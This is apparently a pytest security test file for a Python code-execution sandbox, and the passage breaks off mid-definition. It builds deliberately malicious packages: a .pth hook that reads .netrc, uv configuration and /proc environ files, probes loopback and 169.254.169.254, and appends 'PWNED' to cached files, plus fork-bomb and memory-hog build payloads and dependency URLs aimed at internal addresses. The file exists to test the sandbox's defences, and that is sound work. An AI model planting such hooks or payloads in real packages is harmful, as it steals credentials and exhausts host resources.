"""Builds as untrusted code: the attack catalogue's D-02..D-06 (section 3b) through the real
binary over MCP.

A dependency's build code and import-time code are as untrusted as the script. The packages
here are built by the test with the standard library (a wheel is a zip with METADATA, WHEEL and
RECORD; an sdist a tar.gz with a pyproject naming an in-tree backend) and served from a local
simple index on 127.0.0.1 that wants HTTP basic auth with a credential canary
(`UV_INDEX_URL=http://user:canary-…@127.0.0.1:PORT/simple`), or from a local find-links
directory (sdist builds have no network).

Every test checks from outside that the attack ran (a proof-of-life file the package's code
wrote into its own environment, read back by a run; marker processes seen in host /proc) and
that it was denied (canaries absent, listeners not reached, files byte-identical).
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import http.server
import io
import json
import os
import secrets
import socket
import tarfile
import threading
import time
import zipfile
from pathlib import Path
from typing import Any, AsyncIterator

import anyio
import pytest

from attacks_support import Canaries, assert_no_leak, marker_pids, plant_canaries, posture, remove_canaries
from conftest import call, connect

pytestmark = pytest.mark.anyio
MODE = "auto"


# ---------------------------------------------------------------------------------------------
# Packages, built here with the standard library.
# ---------------------------------------------------------------------------------------------


def _record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def wheel_bytes(name: str, version: str, files: dict[str, str], requires: tuple[str, ...] = ()) -> tuple[str, bytes]:
    """A pure-Python wheel: (file name, content)."""
    dist = f"{name}-{version}.dist-info"
    entries = {path: text.encode() for path, text in files.items()}
    entries[f"{dist}/METADATA"] = (
        f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n" + "".join(f"Requires-Dist: {r}\n" for r in requires)
    ).encode()
    entries[f"{dist}/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: snakebox-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record = "".join(f"{path},{_record_hash(data)},{len(data)}\n" for path, data in entries.items())
    record += f"{dist}/RECORD,,\n"
    entries[f"{dist}/RECORD"] = record.encode()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for path, data in entries.items():
            zf.writestr(path, data)
    return f"{name}-{version}-py3-none-any.whl", buf.getvalue()


# The wheel writer, as source, for the in-tree build backends below.
WHEEL_WRITER = '''
import base64, hashlib, io, zipfile
def _h(data):
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
def write_wheel(directory, name, version, files):
    dist = f"{name}-{version}.dist-info"
    entries = {p: t.encode() for p, t in files.items()}
    entries[f"{dist}/METADATA"] = f"Metadata-Version: 2.1\\nName: {name}\\nVersion: {version}\\n".encode()
    entries[f"{dist}/WHEEL"] = b"Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"
    rec = "".join(f"{p},{_h(d)},{len(d)}\\n" for p, d in entries.items()) + f"{dist}/RECORD,,\\n"
    entries[f"{dist}/RECORD"] = rec.encode()
    fn = f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(directory + "/" + fn, "w") as zf:
        for p, d in entries.items():
            zf.writestr(p, d)
    return fn
'''


def sdist_bytes(name: str, version: str, build_body: str) -> tuple[str, bytes]:
    """An sdist whose in-tree PEP 517 backend runs `build_body` (with `wheel_directory` in
    scope) and returns the name of the wheel it wrote."""
    root = f"{name}-{version}"
    backend = WHEEL_WRITER + (
        "\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n"
        + "\n".join("    " + line for line in build_body.splitlines())
        + "\n"
    )
    files = {
        f"{root}/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        f"{root}/pyproject.toml": (
            '[build-system]\nrequires = []\nbuild-backend = "sbx_backend"\nbackend-path = ["."]\n'
        ),
        f"{root}/sbx_backend.py": backend,
    }
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for path, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(path)
            info.size = len(data)
            info.mtime = int(time.time())
            tf.addfile(info, io.BytesIO(data))
    return f"{root}.tar.gz", buf.getvalue()


# ---------------------------------------------------------------------------------------------
# A local simple index that wants the credential canary.
# ---------------------------------------------------------------------------------------------


class Index:
    """PEP 503 simple index on 127.0.0.1 with HTTP basic auth; records every request."""

    def __init__(self, user: str, password: str) -> None:
        self.files: dict[str, bytes] = {}
        self.links: dict[str, list[str]] = {}
        self.requests: list[tuple[str, bool]] = []
        # Seconds to wait before serving a file (a slow download).
        self.delays: dict[str, float] = {}
        expected = "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()
        index = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_HEAD(self) -> None:  # noqa: N802
                self.do_GET(head=True)

            def do_GET(self, head: bool = False) -> None:  # noqa: N802
                authed = self.headers.get("Authorization") == expected
                index.requests.append((self.path, authed))
                if not authed:
                    self.send_response(401)
                    self.send_header("WWW-Authenticate", 'Basic realm="sbx"')
                    self.end_headers()
                    return
                parts = [p for p in self.path.split("?")[0].split("/") if p]
                if len(parts) == 2 and parts[0] == "simple":
                    name = parts[1]
                    links = [
                        f'<a href="/files/{fn}#sha256={hashlib.sha256(data).hexdigest()}">{fn}</a>'
                        for fn, data in index.files.items()
                        if fn.split("-")[0].lower() == name.lower()
                    ]
                    links += [f'<a href="{url}">{url.rsplit("/", 1)[-1]}</a>' for url in index.links.get(name.lower(), [])]
                    if not links:
                        self.send_response(404)
                        self.end_headers()
                        return
                    body = ("<html><body>" + "\n".join(links) + "</body></html>").encode()
                    self.send_response(200)
                    self.send_header("Content-Type", "text/html")
                elif len(parts) == 2 and parts[0] == "files" and parts[1] in index.files:
                    time.sleep(index.delays.get(parts[1], 0))
                    body = index.files[parts[1]]
                    self.send_response(200)
                    self.send_header("Content-Type", "application/octet-stream")
                else:
                    self.send_response(404)
                    self.end_headers()
                    return
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                if not head:
                    self.wfile.write(body)

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.url = f"http://{user}:{password}@127.0.0.1:{self.port}/simple"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def add(self, item: tuple[str, bytes]) -> None:
        self.files[item[0]] = item[1]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def canaries(tmp_path_factory: pytest.TempPathFactory) -> Any:
    planted = plant_canaries(tmp_path_factory.mktemp("canaries"))
    # The operator's uv configuration and .netrc in the fake HOME carry the token too.
    yield planted
    remove_canaries(planted)


@pytest.fixture(scope="module")
def token() -> str:
    return f"canary-TOKEN-{secrets.token_hex(6)}"


@pytest.fixture(scope="module")
def index(token: str, canaries: Canaries) -> Any:
    home = canaries.home
    (home / ".netrc").write_text(f"machine 127.0.0.1 login user password {token}\n")
    (home / ".config" / "uv").mkdir(parents=True, exist_ok=True)
    (home / ".config" / "uv" / "uv.toml").write_text(f'# {token}\n')
    idx = Index("user", token)
    yield idx
    idx.close()


@contextlib.asynccontextmanager
async def server(snakebox_bin: Path, data_dir: Path, canaries: Canaries, index: Index, *args: str,
                 extra_env: dict[str, str] | None = None) -> AsyncIterator[Any]:
    env = canaries.server_env()
    env["UV_INDEX_URL"] = index.url
    env.update(extra_env or {})
    async with connect(snakebox_bin, data_dir, MODE, *args, env=env) as client:
        yield client


def fresh_data_dir(tmp_path: Path, name: str) -> Path:
    path = tmp_path / name
    path.mkdir()
    path.chmod(0o755)
    return path


async def run_script(client: Any, script: str, deps: list[str], timeout: int = 120) -> tuple[dict[str, Any], str, bool]:
    return await call(client, "execute_python", script=script, dependencies=deps, timeout_seconds=timeout)


async def compilation(client: Any) -> dict[str, Any]:
    """check_environment's account of background compilation."""
    report, text, is_error = await call(client, "check_environment")
    assert not is_error, text
    return report["cache"]["compilation"]


async def compilations_ended(client: Any, count: int) -> dict[str, Any]:
    """Wait until `count` background compilations ended (published or discarded)."""
    with anyio.fail_after(240):
        while True:
            state = await compilation(client)
            if state["completed"] + state["failed"] >= count and state["pending"] == 0:
                return state
            await anyio.sleep(0.2)


async def compiled(client: Any, count: int = 1) -> dict[str, Any]:
    """Wait until `count` environments were compiled in the background, none failed."""
    state = await compilations_ended(client, count)
    assert state["failed"] == 0 and state["completed"] == count, state
    return state


async def alive(client: Any) -> None:
    data, _, is_error = await call(client, "execute_python", script="print('alive')", timeout_seconds=30)
    assert not is_error and data["status"] == "ok" and data["stdout"] == "alive\n", data


# The spy: a `.pth` line runs `_sbxspy_boot` whenever the environment's interpreter starts. In the
# environment build (compilation, environment writable) it probes everything and writes what it
# saw into its own environment; in runs (read-only) it does nothing.
SPY_BOOT = r'''
import errno, json, os, socket, sys
P = json.loads({params!r})
site = os.path.dirname(os.path.abspath(__file__))
proof = os.path.join(site, "sbxspy_proof.json")
def _errno(fn):
    try:
        fn()
        return 0
    except OSError as e:
        return e.errno
if os.access(site, os.W_OK) and not os.path.exists(proof):
    seen = {{"phase": "build", "argv": sys.argv, "uid": os.getuid(), "euid": os.geteuid(),
            "env": dict(os.environ), "home": os.path.expanduser("~"), "files": {{}}, "connect": {{}}, "tamper": {{}}}}
    for path in [os.path.expanduser("~/.netrc"), os.path.expanduser("~/.config/uv/uv.toml"), "/root/.netrc",
                 P["home"] + "/.netrc", P["home"] + "/.config/uv/uv.toml", "/proc/1/environ", "/proc/self/environ"]:
        try:
            with open(path, "rb") as f:
                seen["files"][path] = f.read(4096).decode("latin-1")
        except OSError as e:
            seen["files"][path] = "errno %d" % e.errno
    for fam, host, port in [(socket.AF_INET, "127.0.0.1", P["port"]), (socket.AF_INET6, "::1", P["port"]),
                            (socket.AF_INET, "127.0.0.1", P["index_port"]), (socket.AF_INET, "169.254.169.254", 80)]:
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.settimeout(2)
        seen["connect"]["%s:%d" % (host, port)] = s.connect_ex((host, port))
        s.close()
    victim = os.path.join(site, "sbxvictim", "__init__.py")
    def append():
        with open(victim, "a") as f:
            f.write("\nPWNED = True\n")
    seen["tamper"]["append_victim"] = _errno(append)
    seen["tamper"]["chmod_victim"] = _errno(lambda: os.chmod(victim, 0o666))
    seen["tamper"]["cache_visible"] = os.path.exists(P["cache"])
    for key, cache in [("cache", P["cache"]), ("own_cache", os.environ.get("UV_CACHE_DIR"))]:
        hit = None
        for root, dirs, files in os.walk(cache or "/nonexistent"):
            for name in files:
                if name == "__init__.py" and "sbxvictim" in root:
                    hit = os.path.join(root, name)
        if hit:
            def cache_append():
                with open(hit, "a") as f:
                    f.write("\nPWNED = True\n")
            seen["tamper"]["append_" + key] = _errno(cache_append)
    with open(proof, "w") as f:
        json.dump(seen, f)
'''


def spy_wheel(canaries: Canaries, index: Index, data_dir: Path) -> tuple[str, bytes]:
    params = json.dumps({"port": canaries.tcp_port, "index_port": index.port, "home": str(canaries.home),
                         "cache": str(data_dir / "installs-v1" / "uv-cache")})
    return wheel_bytes("sbxspy", "1.0", {
        "sbxspy_hook.pth": "import _sbxspy_boot\n",
        "_sbxspy_boot.py": SPY_BOOT.format(params=params),
        "sbxspy/__init__.py": "",
    })


def victim_wheel() -> tuple[str, bytes]:
    return wheel_bytes("sbxvictim", "1.0", {"sbxvictim/__init__.py": 'VALUE = "clean"\n'})


READ_PROOF = r'''
import json, os, sysconfig
site = sysconfig.get_paths()["purelib"]
print(json.dumps(json.load(open(os.path.join(site, "sbxspy_proof.json")))))
'''

HASH_TREE = r'''
import hashlib, json, os, sysconfig
import sbxvictim
site = sysconfig.get_paths()["purelib"]
out = {}
for root, dirs, files in os.walk(os.path.join(site, "sbxvictim")):
    if "__pycache__" in root:
        continue
    for name in files:
        path = os.path.join(root, name)
        out[os.path.relpath(path, site)] = hashlib.sha256(open(path, "rb").read()).hexdigest()
print(json.dumps({"value": sbxvictim.VALUE, "pwned": hasattr(sbxvictim, "PWNED"), "hashes": out}))
'''


def assert_token_absent(token: str, *blobs: str) -> None:
    for blob in blobs:
        assert token not in blob, "the index credential canary leaked"
        assert "canary-TOKEN" not in blob


# ---------------------------------------------------------------------------------------------
# D-04, D-05, D-06: one malicious wheel whose `.pth` runs while the environment is compiled.
# ---------------------------------------------------------------------------------------------


async def test_D04_D05_D06_compile_time_code_gets_no_secret_and_cannot_touch_the_cache(
    snakebox_bin, tmp_path, canaries, index, token
):
    data_a = fresh_data_dir(tmp_path, "data-a")
    index.add(spy_wheel(canaries, index, data_a))
    index.add(victim_wheel())
    async with server(snakebox_bin, data_a, canaries, index) as client:
        # 1. The malicious environment: its .pth runs during compilation, after the first run
        #    (proof of life).
        data, text, is_error = await run_script(client, "import sbxspy", ["sbxspy==1.0", "sbxvictim==1.0"])
        assert not is_error and data["status"] == "ok", data
        await compiled(client)
        data, text, is_error = await run_script(client, READ_PROOF, ["sbxspy==1.0", "sbxvictim==1.0"])
        assert not is_error and data["status"] == "ok", data
        proof = json.loads(data["stdout"])
        print("D-04 compile-phase view:", json.dumps({k: proof[k] for k in ("uid", "home", "connect", "tamper")}))
        # (While `.pth` lines run, `-m compileall` is not yet resolved: argv is `-m -q <site>`.)
        assert proof["phase"] == "build" and proof["argv"][-1].endswith("site-packages"), proof["argv"]
        # D-04: no credential, no operator HOME, no index settings.
        blob = json.dumps(proof)
        assert_token_absent(token, blob, text)
        assert_no_leak(canaries, data, text)
        assert not any(k.startswith("UV_") and "INDEX" in k for k in proof["env"]), proof["env"]
        assert proof["home"] not in ("/root", str(canaries.home)), proof["home"]
        assert proof["env"].get("HOME") == "/tmp"
        assert proof["uid"] not in (0, 65533), "package code ran as root or as the owner of uv's cache"
        # D-02 from compile-time code: no network at all (its own namespace).
        assert all(v != 0 for v in proof["connect"].values()), proof["connect"]
        # D-05: the shared files are not writable, the cache is not there.
        assert proof["tamper"]["append_victim"] in (13, 1), proof["tamper"]
        assert proof["tamper"]["chmod_victim"] in (13, 1), proof["tamper"]
        assert proof["tamper"]["cache_visible"] is False
        assert "append_cache" not in proof["tamper"]

        # D-06: a run reads its environment's manifest, pyvenv.cfg and every other file.
        scan = r'''
import os, sys, json
root = sys.prefix
found, manifest = [], open(os.path.join(root, "snakebox-env.json")).read()
for d, _, files in os.walk(root):
    for name in files:
        try:
            blob = open(os.path.join(d, name), "rb").read()
        except OSError:
            continue
        if b"canary-TOKEN" in blob:
            found.append(os.path.join(d, name))
print(json.dumps({"found": found, "manifest": json.loads(manifest), "pyvenv": open(os.path.join(root, "pyvenv.cfg")).read()}))
'''
        data, text, is_error = await run_script(client, scan, ["sbxspy==1.0", "sbxvictim==1.0"])
        assert not is_error and data["status"] == "ok", data
        seen = json.loads(data["stdout"])
        print("D-06 manifest index settings:", seen["manifest"]["index_settings"])
        assert seen["found"] == []
        assert any("***@127.0.0.1" in s for s in seen["manifest"]["index_settings"]), seen["manifest"]
        assert_token_absent(token, data["stdout"], text)

        # D-05: a later, unrelated environment built from the same cache.
        data, _, is_error = await run_script(client, HASH_TREE, ["sbxvictim==1.0"])
        assert not is_error and data["status"] == "ok", data
        later = json.loads(data["stdout"])
    # The same environment from a fresh cache, by a fresh server.
    data_b = fresh_data_dir(tmp_path, "data-b")
    async with server(snakebox_bin, data_b, canaries, index) as client:
        data, _, is_error = await run_script(client, HASH_TREE, ["sbxvictim==1.0"])
        assert not is_error and data["status"] == "ok", data
        fresh = json.loads(data["stdout"])
    print("D-05 later vs fresh:", later, fresh)
    assert later == fresh and later["value"] == "clean" and not later["pwned"]
    assert canaries.connections() == [], canaries.connections()
    # The index saw the credential from the downloader only.
    assert any(authed for _, authed in index.requests)


# ---------------------------------------------------------------------------------------------
# D-02: direct URLs aimed at host loopback, private and metadata addresses.
# ---------------------------------------------------------------------------------------------


async def test_D02_direct_urls_at_loopback_private_or_metadata_are_refused(
    snakebox_bin, tmp_path, canaries, index
):
    data_dir = fresh_data_dir(tmp_path, "data")
    port = canaries.tcp_port
    bad = [
        f"sbxevil @ http://127.0.0.1:{port}/sbxevil-1.0-py3-none-any.whl",
        f"sbxevil @ http://[::1]:{port}/sbxevil-1.0-py3-none-any.whl",
        f"sbxevil @ http://localhost:{port}/sbxevil-1.0-py3-none-any.whl",
        "sbxevil @ http://169.254.169.254/latest/sbxevil-1.0-py3-none-any.whl",
        "sbxevil @ http://10.255.255.1/sbxevil-1.0-py3-none-any.whl",
        f"sbxevil @ http://[::ffff:127.0.0.1]:{port}/sbxevil-1.0-py3-none-any.whl",
    ]
    async with server(snakebox_bin, data_dir, canaries, index) as client:
        for dep in bad:
            data, text, is_error = await run_script(client, "print('RAN')", [dep], timeout=30)
            assert is_error and data["status"] in ("setup_failed", "invalid_request"), (dep, data)
            assert "RAN" not in (data.get("stdout") or "")
            print("D-02", dep, "->", data["status"], (data.get("error") or {}).get("message"))
        # The same through a PEP 723 block.
        script = f'# /// script\n# dependencies = ["{bad[0]}"]\n# ///\nprint("RAN")\n'
        data, _, is_error = await call(client, "execute_python", script=script, timeout_seconds=30)
        assert is_error and "RAN" not in (data.get("stdout") or ""), data
        # And through a session's install_packages.
        created, _, is_error = await call(client, "create_session")
        assert not is_error, created
        sid = created["session_id"]
        status, _, _ = await call(client, "install_packages", session_id=sid, packages=[bad[0]])
        print("D-02 session install:", json.dumps(status)[:400])
        assert json.dumps(status).find("non-public address") >= 0, status
        await call(client, "delete_session", session_id=sid)
        await alive(client)
    assert canaries.connections() == [], f"the installer reached a host loopback service: {canaries.connections()}"


async def test_D02_urls_met_during_resolution_go_through_the_egress_proxy_only(snakebox_bin, tmp_path, canaries, index):
    """What the URL check cannot see (a dependency's own URL requirement, an index page linking
    to host loopback) the download meets while resolving; it has no host network, only the
    egress proxy, which refuses every destination but the configured index and public
    addresses."""
    port = canaries.tcp_port
    index.add(wheel_bytes("sbxtrojan", "1.0", {"sbxtrojan.py": ""},
                          requires=(f"sbxevil @ http://127.0.0.1:{port}/sbxevil-1.0-py3-none-any.whl",)))
    index.add(wheel_bytes("sbxtrojan6", "1.0", {"sbxtrojan6.py": ""},
                          requires=(f"sbxevil @ http://[::1]:{port}/sbxevil-1.0-py3-none-any.whl",)))
    index.links["sbxlure"] = [f"http://127.0.0.1:{port}/files/sbxlure-1.0-py3-none-any.whl"]
    index.links["sbxlure6"] = [f"http://[::1]:{port}/files/sbxlure6-1.0-py3-none-any.whl"]
    index.links["sbxluremeta"] = ["http://169.254.169.254/files/sbxluremeta-1.0-py3-none-any.whl"]
    index.add(victim_wheel())
    data_dir = fresh_data_dir(tmp_path, "data")
    async with server(snakebox_bin, data_dir, canaries, index) as client:
        for dep in ["sbxtrojan==1.0", "sbxtrojan6==1.0", "sbxlure", "sbxlure6", "sbxluremeta"]:
            data, _, is_error = await run_script(client, "print('RAN')", [dep], timeout=60)
            message = json.dumps(data.get("error"))
            print("D-02 via resolution:", dep, "->", data["status"], message[:300])
            assert is_error and data["status"] == "setup_failed" and "RAN" not in (data.get("stdout") or ""), data
            if dep.startswith("sbxtrojan"):
                # uv itself refuses a URL requirement of a dependency.
                assert "URL dependencies must be expressed as direct requirements" in message, message
            else:
                # The index page's links to host loopback and metadata: refused by the proxy.
                assert "403" in message or "Forbidden" in message, message
        # Proof the way out works for what is allowed: the configured index (on loopback).
        data, _, is_error = await run_script(client, "import sbxvictim; print(sbxvictim.VALUE)", ["sbxvictim==1.0"])
        assert not is_error and data["stdout"] == "clean\n", data
        # Sessions' installs take the same way out.
        created, _, is_error = await call(client, "create_session")
        assert not is_error, created
        sid = created["session_id"]
        status, _, _ = await call(client, "install_packages", session_id=sid, packages=["sbxlure"])
        print("D-02 session install via resolution:", json.dumps(status)[:300])
        assert "403" in json.dumps(status) or "Forbidden" in json.dumps(status), status
        status, _, _ = await call(client, "install_packages", session_id=sid, packages=["sbxvictim==1.0"])
        assert "sbxvictim" in json.dumps(status.get("packages")), status
        data, _, is_error = await call(client, "execute_python", session_id=sid, script="import sbxvictim; print(sbxvictim.VALUE)")
        assert not is_error and data["stdout"] == "clean\n", data
        await call(client, "delete_session", session_id=sid)
        await alive(client)
    assert canaries.connections() == [], f"the installer reached a host loopback service: {canaries.connections()}"


class UpstreamProxy:
    """The operator's own HTTP proxy on 127.0.0.1 (CONNECT and absolute-form forwarding),
    wanting basic auth; records every request."""

    def __init__(self, user: str, password: str) -> None:
        self.expected = "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()
        self.requests: list[tuple[str, str, bool]] = []
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.url = f"http://{user}:{password}@127.0.0.1:{self.port}"
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._handle, args=(conn,), daemon=True).start()

    @staticmethod
    def _pipe(a: socket.socket, b: socket.socket) -> None:
        try:
            while data := a.recv(65536):
                b.sendall(data)
        except OSError:
            pass
        with contextlib.suppress(OSError):
            b.shutdown(socket.SHUT_WR)

    def _handle(self, conn: socket.socket) -> None:
        buf = b""
        while b"\r\n\r\n" not in buf:
            chunk = conn.recv(65536)
            if not chunk:
                conn.close()
                return
            buf += chunk
        head, rest = buf.split(b"\r\n\r\n", 1)
        lines = head.decode().split("\r\n")
        method, target, version = lines[0].split(" ")
        headers = {k.strip().lower(): v.strip() for k, v in (line.split(":", 1) for line in lines[1:])}
        authed = headers.get("proxy-authorization") == self.expected
        self.requests.append((method, target, authed))
        if not authed:
            conn.sendall(b"HTTP/1.1 407 Proxy Authentication Required\r\nConnection: close\r\n\r\n")
            conn.close()
            return
        if method == "CONNECT":
            host, port = target.rsplit(":", 1)
            up = socket.create_connection((host.strip("[]"), int(port)))
            conn.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
        else:
            authority, _, path = target[len("http://"):].partition("/")
            host, _, port = authority.rpartition(":")
            up = socket.create_connection((host.strip("[]"), int(port or 80)))
            kept = [line for line in lines[1:] if not line.lower().startswith("proxy-")]
            up.sendall(("\r\n".join([f"{method} /{path} {version}", *kept]) + "\r\n\r\n").encode() + rest)
        t = threading.Thread(target=self._pipe, args=(up, conn), daemon=True)
        t.start()
        self._pipe(conn, up)
        t.join(5)
        conn.close()
        up.close()

    def close(self) -> None:
        self.sock.close()


async def test_D02_downloads_chain_through_the_operators_proxy_after_the_same_checks(
    snakebox_bin, tmp_path, canaries, index, token
):
    """With the operator's own proxy set for uv, the download still has no host network: the
    egress proxy checks each destination and chains what it allows through the operator's proxy
    (with that proxy's credential, which no package code sees)."""
    port = canaries.tcp_port
    proxy_secret = f"proxy-canary-{secrets.token_hex(6)}"
    upstream = UpstreamProxy("puser", proxy_secret)
    index.add(victim_wheel())
    index.links["sbxlure"] = [f"http://127.0.0.1:{port}/files/sbxlure-1.0-py3-none-any.whl"]
    data_dir = fresh_data_dir(tmp_path, "data")
    index.add(spy_wheel(canaries, index, data_dir))
    env = {"HTTP_PROXY": upstream.url, "HTTPS_PROXY": upstream.url}
    try:
        async with server(snakebox_bin, data_dir, canaries, index, extra_env=env) as client:
            # The spy's code runs when the environment is compiled, after its first run.
            data, _, is_error = await run_script(client, "import sbxspy", ["sbxvictim==1.0", "sbxspy==1.0"])
            assert not is_error and data["status"] == "ok", data
            await compiled(client)
            data, _, is_error = await run_script(client, READ_PROOF, ["sbxvictim==1.0", "sbxspy==1.0"])
            assert not is_error and data["status"] == "ok", data
            proof = data["stdout"]
            data, _, is_error = await run_script(client, "print('RAN')", ["sbxlure"], timeout=60)
            message = json.dumps(data.get("error"))
            assert is_error and ("403" in message or "Forbidden" in message), data
            await alive(client)
    finally:
        upstream.close()
    print("D-02 upstream saw:", upstream.requests[:6])
    # Chained: the index was fetched through the operator's proxy, with its credential.
    assert any(f":{index.port}/simple/sbxvictim" in target and authed for _, target, authed in upstream.requests)
    # Checked first: the loopback link never reached the operator's proxy, nor the listener.
    assert not any(f":{port}" in target for _, target, _ in upstream.requests), upstream.requests
    assert canaries.connections() == []
    # No package code saw either credential.
    assert proxy_secret not in proof and token not in proof


# ---------------------------------------------------------------------------------------------
# Wheels only by default; opt-in sdist builds run sandboxed (D-03, D-04).
# ---------------------------------------------------------------------------------------------


async def test_sdists_are_not_built_by_default_and_the_error_says_why(snakebox_bin, tmp_path, canaries, index):
    marker = tmp_path / "built"
    index.add(sdist_bytes("sbxsrconly", "1.0", f"open({str(marker)!r}, 'w').close()\nreturn write_wheel(wheel_directory, 'sbxsrconly', '1.0', {{'sbxsrconly.py': ''}})"))
    data_dir = fresh_data_dir(tmp_path, "data")
    async with server(snakebox_bin, data_dir, canaries, index) as client:
        data, text, is_error = await run_script(client, "print('RAN')", ["sbxsrconly==1.0"], timeout=60)
        await alive(client)
    error = data.get("error") or {}
    print("wheels only:", json.dumps(error)[:600])
    assert is_error and data["status"] == "setup_failed", data
    assert "no wheel for this Python of `sbxsrconly`" in error.get("message", ""), error
    assert "--allow-sdist-builds" in (error.get("hint") or "")
    assert not marker.exists(), "the sdist's build code ran"
    report, _, _ = await _report(snakebox_bin, data_dir, canaries, index)
    assert "wheels only" in report["cache"]["installs"], report["cache"]


async def _report(snakebox_bin, data_dir, canaries, index):
    async with server(snakebox_bin, data_dir, canaries, index) as client:
        return await call(client, "check_environment")


BOMB = r'''
import os, subprocess, sys, time
MARK = {mark!r}
children = []
for i in range(300):
    try:
        children.append(subprocess.Popen(["/bin/sh", "-c", "sleep 120; :", MARK], start_new_session=True))
    except OSError:
        break
time.sleep(1)
# Free some of the process budget for the allocator.
for child in children[: len(children) // 2]:
    os.killpg(child.pid, 9)
    child.wait()
time.sleep(0.5)
hog = "import time\ntime.sleep(1)\nx = []\nfor i in range(64):\n    x.append(bytearray(64 << 20))\n    time.sleep(0.05)\ntime.sleep(120)\n"
subprocess.run([sys.executable, "-c", hog, MARK + "HOG"])
time.sleep(120)
return write_wheel(wheel_directory, "sbxbomb", "1.0", {{"sbxbomb.py": ""}})
'''


def cmdline(pid: int) -> bytes:
    """A process's command line; empty once it is gone (the watchers below race exits: a
    process ending between the listing and the read must not end the watcher)."""
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            return handle.read()
    except OSError:
        return b""


def rss_kib(pid: int) -> int:
    with contextlib.suppress(OSError), open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


async def test_D03_an_opt_in_sdist_build_gets_the_run_limits(snakebox_bin, tmp_path, canaries, index):
    mark = f"SBXBOMB{secrets.token_hex(6)}"
    links = tmp_path / "links"
    links.mkdir()
    name, blob = sdist_bytes("sbxbomb", "1.0", BOMB.format(mark=mark))
    (links / name).write_bytes(blob)
    for path in (tmp_path, links, links / name):
        path.chmod(0o755)
    data_dir = fresh_data_dir(tmp_path, "data")
    seen: dict[str, Any] = {"max": 0, "uids": set(), "pids": set(), "hog_kib": 0, "hog_seen": 0.0, "hog_gone": 0.0}
    stop = threading.Event()

    def watch() -> None:
        while not stop.is_set():
            pids = marker_pids(mark)
            seen["max"] = max(seen["max"], len(pids))
            hogs = [p for p in pids if (mark + "HOG").encode() in cmdline(p)]
            if hogs:
                seen["hog_seen"] = seen["hog_seen"] or time.monotonic()
                seen["hog_kib"] = max(seen["hog_kib"], max(rss_kib(p) for p in hogs))
            elif seen["hog_seen"] and not seen["hog_gone"]:
                seen["hog_gone"] = time.monotonic()
            for pid in pids[:3]:
                with contextlib.suppress(Exception):
                    seen["uids"].add(posture(pid)["status"].get("Uid", ""))
            seen["pids"].update(pids)
            time.sleep(0.2)

    watcher = threading.Thread(target=watch, daemon=True)
    args = ("--allow-sdist-builds", "--install-timeout", "40", "--max-processes", "48", "--memory-limit", "512MiB")
    t0 = time.monotonic()
    async with server(snakebox_bin, data_dir, canaries, index, *args, extra_env={"UV_FIND_LINKS": str(links)}) as client:
        watcher.start()
        data, text, is_error = await run_script(client, "print('RAN')", ["sbxbomb==1.0"], timeout=60)
        wall = time.monotonic() - t0
        stop.set()
        watcher.join(2)
        await alive(client)
    error = data.get("error") or {}
    hog_life = seen["hog_gone"] - seen["hog_seen"] if seen["hog_gone"] else None
    print("D-03:", data["status"], json.dumps(error)[:500], "max marker processes:", seen["max"], "uids:", seen["uids"],
          f"hog peak RSS {seen['hog_kib'] // 1024} MiB, killed after {hog_life}s, wall {wall:.1f}s")
    # Processes: the fork storm ran (proof of life) and stopped below --max-processes.
    assert seen["max"] >= 10, "the build never ran (no marker processes seen)"
    assert seen["max"] <= 48, "the process limit did not hold for the build"
    # Memory: the allocator ran and was killed at the limit (64 x 64 MiB asked), long before
    # the install timeout.
    assert seen["hog_kib"] > 64 * 1024, "the allocation never ran"
    assert seen["hog_kib"] <= 512 * 1024, "the memory limit did not hold for the build"
    assert hog_life is not None and hog_life < 30, "the allocator was not stopped"
    # Time: the build that then sleeps is stopped at --install-timeout, with a clear error.
    assert is_error and data["status"] == "setup_failed", data
    assert "time limit of `40s`" in error.get("message", ""), error
    assert wall < 90
    for uids in seen["uids"]:
        assert uids and all(int(u) not in (0, 65533) for u in uids.split()), uids
    time.sleep(1)
    assert marker_pids(mark) == [], "build processes survived"
    assert canaries.connections() == []


PTH_BOMB = r'''
import os, subprocess, sys, time
if os.access(os.path.dirname(os.path.abspath(__file__)), os.W_OK):
    MARK = {mark!r}
    kids = []
    for i in range(300):
        try:
            kids.append(subprocess.Popen(["/bin/sh", "-c", "sleep 120; :", MARK], start_new_session=True))
        except OSError:
            break
    for kid in kids[: len(kids) // 2]:
        os.killpg(kid.pid, 9)
        kid.wait()
